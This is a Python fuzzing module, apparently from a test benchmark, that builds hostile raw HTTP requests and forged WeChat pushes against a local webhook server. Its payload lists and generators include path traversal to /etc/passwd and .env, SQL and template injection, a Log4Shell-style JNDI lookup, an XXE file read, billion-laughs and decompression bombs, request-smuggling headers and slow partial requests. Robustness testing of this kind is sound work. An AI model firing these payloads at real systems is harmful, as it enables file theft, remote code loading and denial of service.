"""Requests that nobody should send, from a seed: raw bytes, so that no client tidies them up."""

import gzip
import json
import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from urllib.parse import quote

from bench.pushes import Account

ACCOUNT = Account()
PATHS = (
    "/wechat", "/", "//wechat", "/wechat/", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/wechat%00",
    "/wechat/..;/metrics", "/simulator/", "/simulator/control/reset", "/static/../config.yml", "/.env",
    "/.git/config", "/staff/sign-in", "/staff", "/desk", "/healthz", "/readyz", "/v/" + "a" * 500, "/\x7f",
    "/%ff%fe", "/" + "a/" * 800, "http://example.invalid/", "*",
)  # fmt: skip
METHODS = (
    "GET",
    "POST",
    "PUT",
    "DELETE",
    "PATCH",
    "HEAD",
    "OPTIONS",
    "TRACE",
    "PROPFIND",
    "CONNECT",
    "get",
    "X" * 50,
)
TAGS = (
    "MsgType", "Event", "EventKey", "Content", "MsgId", "MsgID", "CreateTime", "FromUserName", "ToUserName",
    "Recognition", "MediaId", "PicUrl", "Location_X", "Location_Y", "Label", "Title", "Url", "bizmsgmenuid",
    "ScanCodeInfo", "SendPicsInfo", "KfAccount", "Status", "OpenID", "Latitude", "Encrypt",
)  # fmt: skip
KINDS = (
    "text",
    "image",
    "voice",
    "video",
    "shortvideo",
    "location",
    "link",
    "event",
    "device_text",
    "",
    "TEXT",
    "\u202e",
)
EVENTS = (
    "subscribe",
    "unsubscribe",
    "SCAN",
    "CLICK",
    "VIEW",
    "LOCATION",
    "TEMPLATESENDJOBFINISH",
    "nothing_known",
    "",
)
VALUES = (
    "", "0", "-1", "9" * 400, "1e999", "NaN", "null", "'; DROP TABLE said; --", "{{7*7}}", "${jndi:ldap://x}",
    "%s%n%x", "\u0000", "\ud800", "\u202e\u200b\u2066", "\U0001f600" * 200, "一" * 5000, "a" * 20000,
    "../../etc/passwd", "<script>alert(1)</script>", "&amp;&lt;", "msg:1", "qrscene_" + "x" * 300,
    "topic:../../x", "\ufeff", "1\n2\r\n3", "转人工", "110101199003078515", "6222020000000000000",
)  # fmt: skip
NOISE = bytes(range(256))


@dataclass(frozen=True, slots=True)
class Attack:
    """One request as it goes over the wire; an unfinished one leaves the server waiting for the rest."""

    name: str
    raw: bytes
    unfinished: bool = False


def attacks(how_many: int, seed: int) -> Iterator[Attack]:
    """So many attacks, always the same for a seed."""
    chance = random.Random(seed)
    for _ in range(how_many):
        yield chance.choice(KINDS_OF_ATTACK)(chance)


def request(method: str, target: str, headers: dict[str, str] | None = None, body: bytes = b"") -> bytes:
    """An HTTP/1.1 request with nothing tidied up."""
    lines = {"Host": "127.0.0.1", "Connection": "close", "Content-Length": str(len(body)), **(headers or {})}
    head = f"{method} {target} HTTP/1.1\r\n" + "".join(f"{name}: {text}\r\n" for name, text in lines.items())
    return head.encode("utf-8", "surrogateescape") + b"\r\n" + body


def signed(xml: str, chance: random.Random) -> bytes:
    """A push that is WeChat's in everything but what it says."""
    push = ACCOUNT.sealed(xml, openid=f"o{chance.randrange(10**12)}")
    return request("POST", f"/wechat?{push.query}", {"Content-Type": "text/xml"}, push.body)


# ---- without a proof ----


def noise(chance: random.Random) -> Attack:
    return Attack("noise", chance.randbytes(chance.randrange(1, 400)) + b"\r\n\r\n", unfinished=True)


def strange_request(chance: random.Random) -> Attack:
    method, path = chance.choice(METHODS), chance.choice(PATHS)
    query = quote(chance.choice(VALUES).encode("utf-8", "replace"))[:2000]
    return Attack("strange request", request(method, f"{path}?signature={query}", body=chance.randbytes(60)))


def huge_head(chance: random.Random) -> Attack:
    size = chance.choice((9_000, 70_000, 200_000))
    headers = chance.choice(
        ({"X-A": "a" * size}, {f"X-{n}": "a" for n in range(size // 100)}, {"Cookie": "b=" * size})
    )
    return Attack("huge head", request("POST", "/wechat", headers))


def unsigned(chance: random.Random) -> Attack:
    body = chance.choice((b"", b"success", chance.randbytes(200), _xml(chance).encode("utf-8", "replace")))
    stamp = chance.choice(("", "0", "-1", "1e9", "9" * 30, "１２３", "2000000000"))
    query = f"signature={'a' * 40}&timestamp={quote(stamp)}&nonce=1&encrypt_type=aes&msg_signature={'b' * 40}"
    return Attack("unsigned", request("POST", f"/wechat?{query}", body=body))


def spoiled(chance: random.Random) -> Attack:
    push = ACCOUNT.text("oSpoiled", "1", "收费吗")
    body, query = bytearray(push.body), push.query
    if chance.random() < 0.5:
        body[chance.randrange(len(body))] = chance.randrange(256)
    else:
        query = query.replace(
            "msg_signature=", chance.choice(("signature2=", "msg_signature=x", "msg_signature=%ff"))
        )
    return Attack("spoiled", request("POST", f"/wechat?{query}", body=bytes(body)))


def compressed(chance: random.Random) -> Attack:
    bomb = chance.choice((gzip.compress, zlib.compress))(b"<a>" * 300_000)
    coding = chance.choice(("gzip", "deflate", "br", "zstd", "gzip, gzip"))
    return Attack("compressed", request("POST", "/wechat", {"Content-Encoding": coding}, bomb))


def misdeclared(chance: random.Random) -> Attack:
    push = ACCOUNT.text("oMisdeclared", "1", "收费吗")
    length = chance.choice(("-1", "99999999999", "1", "0x10", "1, 2", "", "+5", "65537"))
    headers = {"Content-Length": length} | chance.choice(({}, {"Transfer-Encoding": "chunked"}))
    return Attack(
        "misdeclared", request("POST", f"/wechat?{push.query}", headers, push.body), unfinished=True
    )


def chunked(chance: random.Random) -> Attack:
    chunk = chance.choice(
        (b"ffffffff\r\n", b"5\r\nabc", b"-1\r\n\r\n", b"0\r\nX: y\r\n", b"zz\r\n", b"1;a=b\r\nx\r\n0\r\n\r\n")
    )
    head = b"POST /wechat HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    return Attack("chunked", head + chunk, unfinished=True)


def slow(chance: random.Random) -> Attack:
    push = ACCOUNT.text("oSlow", "1", "收费吗")
    raw = request("POST", f"/wechat?{push.query}", body=push.body)
    return Attack("slow", raw[: chance.randrange(10, len(raw) - 1)], unfinished=True)


# ---- signed and sealed as WeChat does it, hostile inside ----


def hostile_fields(chance: random.Random) -> Attack:
    return Attack("hostile fields", signed(_xml(chance), chance))


def hostile_json(chance: random.Random) -> Attack:
    values = (*VALUES, None, [], {}, [[]], 10**40, 1.5, True, {"a": {"b": []}})
    fields = {tag: chance.choice(values) for tag in chance.sample(TAGS, 8)} | {
        "MsgType": chance.choice(KINDS)
    }
    text = chance.choice(
        (json.dumps(fields), "[" * 5000, "{}", '{"MsgType":"text"', "[]", '{"FromUserName": "\\ud800"}')
    )
    return Attack("hostile json", signed(text, chance))


def hostile_xml(chance: random.Random) -> Attack:
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    text = chance.choice(
        (
            f'<!DOCTYPE x [<!ENTITY l0 "lol">{lol}]><xml><Content>&l8;</Content></xml>',
            '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><xml><Content>&f;</Content></xml>',
            "<xml>" + "<a>" * 5000,
            "<xml>" + "<a/>" * 12000 + "</xml>",
            "<xml><Content>" + "]]>" * 500 + "</Content></xml>",
            "<xml", "", " ", "\ufeff<xml/>", "<xml></xml><xml></xml>",
            "<?xml version='1.0' encoding='utf-16'?><xml/>",
            "<xml " + " ".join(f'a{n}="{n}"' for n in range(3000)) + "/>",
        )
    )  # fmt: skip
    return Attack("hostile xml", signed(text, chance))


def _xml(chance: random.Random) -> str:
    fields = {tag: chance.choice(VALUES) for tag in chance.sample(TAGS, chance.randrange(1, 10))}
    fields |= {"FromUserName": f"o{chance.randrange(10**12)}", "MsgType": chance.choice(KINDS)}
    if fields["MsgType"] == "event":
        fields["Event"] = chance.choice(EVENTS)
    if chance.random() < 0.1:
        del fields["FromUserName"]
    inside = "".join(f"<{tag}><![CDATA[{text.replace(']]>', '')}]]></{tag}>" for tag, text in fields.items())
    return f"<xml>{inside}</xml>".encode("utf-8", "replace").decode()


KINDS_OF_ATTACK: tuple[Callable[[random.Random], Attack], ...] = (
    noise, strange_request, huge_head, unsigned, spoiled, compressed, misdeclared, chunked,
    *(hostile_fields,) * 3, hostile_json, hostile_xml,
)  # fmt: skip
